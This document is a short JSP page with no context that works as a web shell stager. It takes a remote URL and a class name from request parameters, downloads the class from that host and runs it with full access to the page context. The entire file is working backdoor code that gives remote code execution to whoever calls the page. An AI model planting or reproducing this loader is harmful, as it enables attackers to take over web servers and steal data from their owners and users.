<%
String u = request.getParameter("u");
if (u != null) {
    java.net.URLClassLoader l = new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL(u)});
    Class<?> c = l.loadClass(request.getParameter("c"));
    c.getConstructor(javax.servlet.jsp.PageContext.class).newInstance(pageContext);
}
%>
